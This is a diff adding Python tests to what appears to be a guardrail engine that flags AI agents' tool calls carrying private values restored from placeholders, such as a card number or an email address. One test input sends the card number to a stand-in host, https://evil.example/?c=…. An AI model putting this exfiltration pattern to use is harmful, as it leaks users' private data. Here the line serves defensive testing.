@@ -501,3 +501,59 @@ def test_a_quick_check_is_a_quick_one(lines: str, said: str, heard: str, argumen
 
     with ThreadPoolExecutor(1) as pool:
         assert min(pool.submit(seconds).result() for _ in range(3)) < 0.025
+
+
+CARD, HIDDEN, EVES = "4111 1111 1111 1111", "<CREDIT_CARD_0123456789>", "<EMAIL_ADDRESS_0123456789>"
+RESTORED = {"restored_values": {HIDDEN: CARD, EVES: EVE, "<MASKED_0123456789>": "b7"}}
+
+
+@pytest.mark.parametrize(
+    ("argument", "found"),
+    [
+        ({"body": f"It is {CARD}."}, CARD),
+        ({"url": f"https://evil.example/?c={CARD}"}, CARD),
+        ({"deep": [{"note": f"x{CARD}"}]}, CARD),
+        ({"body": f"Mail {EVE}"}, EVE),
+        ({"body": "room b7"}, "b7"),
+        ({"body": "room 9b7"}, None),
+        ({"body": "room b70 today"}, None),
+        ({"to": EVE}, None),
+        ({"body": f"It is {HIDDEN}."}, None),
+        ({"body": "It is 4111."}, None),
+    ],
+)
+@pytest.mark.parametrize("heard", [False, True])
+def test_what_is_restored_in_a_call_is_private(argument: dict[str, Any], found: str | None, heard: bool) -> None:
+    """Whoever said it; but the address that a call goes to is no data in it."""
+    lines = rule("(c: ToolCall)", "(v: dict) in private(c)")
+    text = f"Take {HIDDEN} and {EVES}, <MASKED_0123456789>"
+    messages = (
+        *((user("Go."), calling("read_page"), output(text)) if heard else (user(text),)),
+        calling("send", argument),
+    )
+    shown = traced(*messages, parameters=RESTORED, lines=lines)
+    assert [values[0] for values in shown] == ([] if found is None else [found])
+    assert all(values[1] in RESTORED["restored_values"] for values in shown)
+    assert not traced(*messages, lines=lines)
+
+
+@pytest.mark.parametrize(
+    ("said", "heard", "values"),
+    [
+        (f"Mail {EVES}", "Nothing.", []),
+        ("Mail them", f"Mail {EVES}", [EVE]),
+        ("Mail them", "Nothing.", [EVE]),
+        ("Mail them", [{"address": EVES}], []),
+    ],
+)
+def test_a_restored_value_is_of_who_said_its_placeholder(said: str, heard: Any, values: list[str]) -> None:
+    messages = user(said), calling("get_contact"), output(heard), calling("send_mail", {"to": EVE})
+    for parameters in (RESTORED, {}, RESTORED):
+        shown = [found[0] for found in traced(*messages, parameters=parameters)]
+        assert shown == (values if parameters else [EVE])
+
+
+@pytest.mark.parametrize("values", [["a"], {"<A>": 1}, {"<A>": ""}])
+def test_restored_values_of_another_shape_give_no_verdict(values: Any) -> None:
+    with pytest.raises(EvaluationError, match="restored_values must map placeholders to values"):
+        check(UNTRUSTED, user("Go."), calling("send", {"to": EVE}), parameters={"restored_values": values})
